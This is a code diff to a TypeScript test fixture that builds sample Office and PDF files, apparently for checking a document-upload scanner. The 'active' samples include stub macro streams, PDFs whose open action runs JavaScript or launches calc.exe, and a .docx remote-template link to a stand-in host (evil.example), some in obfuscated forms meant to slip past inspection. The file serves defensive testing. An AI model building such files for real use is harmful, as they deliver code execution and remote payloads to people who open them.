@@ -1,4 +1,4 @@
-import { crc32, deflateRawSync } from 'node:zlib';
+import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
 
 /** A zip as Office programs write it. */
 export const createZip = (entries: Readonly<Record<string, string | Buffer>>) => {
@@ -33,6 +33,42 @@ export const createZip = (entries: Readonly<Record<string, string | Buffer>>) =>
   return Buffer.concat([...parts, listed, end]);
 };
 
+const compoundSector = 512;
+
+/** A file as old Office programs write it: a header, the allocation table, and a directory of these names. */
+export const createCompoundFile = (names: readonly string[]) => {
+  const header = Buffer.alloc(compoundSector, 0xff);
+  header.fill(0, 0, 76);
+  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(header);
+  header.writeUInt16LE(9, 30);
+  header.writeUInt32LE(1, 44);
+  const [endOfChain, ownSector] = [0xff_ff_ff_fe, 0xff_ff_ff_fd];
+  header.writeUInt32LE(1, 48);
+  header.writeUInt32LE(endOfChain, 68);
+  header.writeUInt32LE(0, 76);
+  const all = ['Root Entry', ...names];
+  const directory = Buffer.alloc(Math.ceil(all.length / 4) * compoundSector);
+  for (const [index, name] of all.entries()) {
+    directory.write(name, index * 128, 'utf16le');
+    directory.writeUInt16LE(name.length * 2 + 2, index * 128 + 64);
+    directory.writeUInt8(index === 0 ? 5 : 2, index * 128 + 66);
+  }
+  const table = Buffer.alloc(compoundSector, 0xff);
+  table.writeUInt32LE(ownSector, 0);
+  const sectors = directory.length / compoundSector;
+  for (let sector = 1; sector <= sectors; sector += 1)
+    table.writeUInt32LE(sector === sectors ? endOfChain : sector + 1, sector * 4);
+  return Buffer.concat([header, table, directory]);
+};
+
+const createPdf = (body: string | Buffer) =>
+  Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(body), Buffer.from('\n%%EOF\n')]);
+const objectStream = (text: string) => {
+  const packed = deflateSync(text);
+  const dictionary = `5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`;
+  return Buffer.concat([Buffer.from(dictionary), packed, Buffer.from('\nendstream endobj')]);
+};
+
 const createOfficeFile = (folder: string, more: Record<string, string> = {}) =>
   createZip({ '[Content_Types].xml': '<Types/>', [`${folder}/document.xml`]: '<document/>', ...more });
 const png = Buffer.from(
@@ -41,7 +77,7 @@ const png = Buffer.from(
 );
 const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
 const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
-const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);
+const ole = createCompoundFile(['WordDocument', '\u0001CompObj']);
 
 /** One valid file of each type. */
 export const validFileSamples: Readonly<Record<string, Buffer>> = {
@@ -58,6 +94,40 @@ export const validFileSamples: Readonly<Record<string, Buffer>> = {
   'a.txt': Buffer.from('1 < 2, 入港届'),
   // 入港届 in Shift_JIS
   'sjis.txt': Buffer.from('93fc8d6093cd', 'hex'),
+};
+
+const relations = (...elements: string[]) => ({
+  'word/_rels/settings.xml.rels': `<Relationships>${elements.join('')}</Relationships>`,
+});
+const officeTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const link = `<Relationship Id="r1" Type="${officeTypes}/hyperlink" Target="https://example.jp" TargetMode="External"/>`;
+const template = `<Relationship Id="r2" TargetMode='External' Type="${officeTypes}/attachedTemplate" Target="https://evil.example/x.dotm"/>`;
+
+/** Files that match their name and do something when they are opened, or cannot be inspected. */
+export const activeFileSamples: Readonly<Record<string, Buffer>> = {
+  'macro.doc': createCompoundFile(['WordDocument', 'Macros', 'VBA']),
+  'macro.xls': createCompoundFile(['Workbook', '_VBA_PROJECT_CUR']),
+  'package.doc': createCompoundFile(['WordDocument', '\u0001Ole10Native']),
+  'encrypted.xls': createCompoundFile(['EncryptedPackage', 'EncryptionInfo']),
+  'broken.doc': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]),
+  'script.pdf': createPdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
+  'coded-script.pdf': createPdf('1 0 obj<</OpenAction<</S/J#61vaScript/JS(1)>>>>endobj'),
+  'packed-script.pdf': createPdf(objectStream('1 0 <</S/JavaScript/JS(1)>>')),
+  'launch.pdf': createPdf('1 0 obj<</OpenAction<</S/Launch/F(calc.exe)>>>>endobj'),
+  'attachment.pdf': createPdf('1 0 obj<</Type/EmbeddedFile>>endobj'),
+  'encrypted.pdf': createPdf('trailer<</Encrypt 5 0 R>>'),
+  'unreadable.pdf': createPdf('5 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nxyz\nendstream'),
+  'template.docx': createOfficeFile('word', relations(link, template)),
+  'coded-template.docx': createOfficeFile('word', relations(template.replace('External', '&#69;xternal'))),
+  'embedded.docx': createOfficeFile('word', { 'word/embeddings/oleObject1.bin': 'x' }),
+  'macrosheet.xlsx': createOfficeFile('xl', { 'xl/macrosheets/sheet1.xml': '<x/>' }),
+};
+
+/** Files with features that are harmless. */
+export const passiveFileSamples: Readonly<Record<string, Buffer>> = {
+  'link.docx': createOfficeFile('word', relations(link)),
+  'view.pdf': createPdf('1 0 obj<</OpenAction[3 0 R /Fit]/AcroForm 4 0 R>>endobj'),
+  'packed.pdf': createPdf(objectStream('1 0 <</Type/Catalog/Pages 2 0 R>>')),
 };
 
 const page = '<!DOCTYPE html><script>alert(1)</script>';
